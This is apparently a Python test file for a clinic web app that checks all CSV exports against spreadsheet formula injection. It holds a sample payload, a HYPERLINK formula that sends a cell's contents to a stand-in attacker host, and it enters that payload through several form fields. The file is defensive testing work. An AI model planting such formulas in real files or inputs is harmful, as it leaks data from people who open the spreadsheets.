"""No cell of any CSV that leaves here is run as a formula, whoever wrote what is in it."""

import csv
import io

from tests.programs.arrange import start_from_template
from tests.support import Browser, Clinic
from tests.test_access import ROUTES

FORMULA = '=HYPERLINK("https://evil.example?x="&A1,"Total")'
STARTS = tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
# Every CSV there is; who adds one adds it here.
EXPORTS = ("/exercises/export.csv", "/exercises/import/empty.csv", "/deliveries.csv", "/account/activity.csv")
OF_A_CLIENT = "/clients/{client_id}/record.csv"


def test_every_csv_is_tried() -> None:
    assert {path for _, path in ROUTES if path.endswith(".csv")} == {*EXPORTS, OF_A_CLIENT}


def test_no_cell_of_any_export_begins_a_formula(browser: Browser, clinic: Clinic) -> None:
    browser.sign_up(name=FORMULA, practice=f"@{FORMULA}")
    browser.save_key(clinic.ana.key)
    client = browser.open_patient(clinic.add_patient(f"+{FORMULA}", f"-{FORMULA}", title="=1")).path
    browser.post("/account/settings/title", {"title": "=1+1"})
    fields = dict.fromkeys(("also_known_as", "purpose", "feels_like", "cautions"), FORMULA)
    browser.post("/exercises/new", {"name": f"@{FORMULA}", "steps": f"-{FORMULA}\n={FORMULA}", **fields})
    start_from_template(browser, client)
    browser.press("Assign program")
    browser.run_jobs()
    seen = 0
    for path in (*EXPORTS, OF_A_CLIENT.replace("/clients/{client_id}", client)):
        answer = browser.get(path)
        assert answer.status == 200, path
        assert answer.headers["content-type"] == "text/csv; charset=utf-8"
        assert answer.headers["content-disposition"].startswith("attachment")
        assert answer.headers["cache-control"] == "no-store"
        cells = [cell for row in csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))) for cell in row]
        assert not [cell for cell in cells if cell.startswith(STARTS)], path
        seen += sum("HYPERLINK" in cell for cell in cells)
    assert seen >= 5, "the exports hold what was typed"
